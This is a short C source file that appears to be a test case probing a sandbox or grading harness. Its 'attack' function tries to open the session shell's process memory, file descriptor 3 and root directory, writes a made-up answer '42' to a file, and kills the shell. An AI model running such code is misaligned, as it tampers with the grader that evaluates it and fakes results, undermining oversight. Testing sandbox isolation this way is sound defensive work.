// SPDX-License-Identifier: MIT
// Kills the shell that leads its session, and reads what the grader keeps there.
#include "attack.h"

static void attack(void) {
  const pid_t shell = getsid(0);
  char path[64];
  signal(SIGHUP, SIG_IGN);
  snprintf(path, sizeof path, "/proc/%d/mem", shell);
  told("memory", open(path, O_RDWR));
  snprintf(path, sizeof path, "/proc/%d/fd/3", shell);
  told("descriptor", open(path, O_RDWR));
  snprintf(path, sizeof path, "/proc/%d/root/", shell);
  told("root", open(path, O_RDONLY | O_DIRECTORY));
  // Its end hangs the terminal up, so the rest is told in a file.
  const int told_in = open("answer", O_WRONLY | O_CREAT, 0644);
  (void)!write(told_in, "42\n", 3);
  puts("end");
  fflush(stdout);
  kill(shell, SIGKILL);
  pause();
}
